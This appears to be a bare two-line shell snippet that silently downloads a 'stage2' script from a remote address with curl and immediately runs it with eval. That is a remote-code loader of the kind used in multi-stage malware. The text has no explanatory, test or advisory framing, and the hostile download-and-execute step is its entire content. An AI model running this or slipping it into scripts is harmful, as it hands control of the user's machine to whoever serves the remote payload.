next=$(curl -s http://192.0.2.7/stage2)
eval "$next"
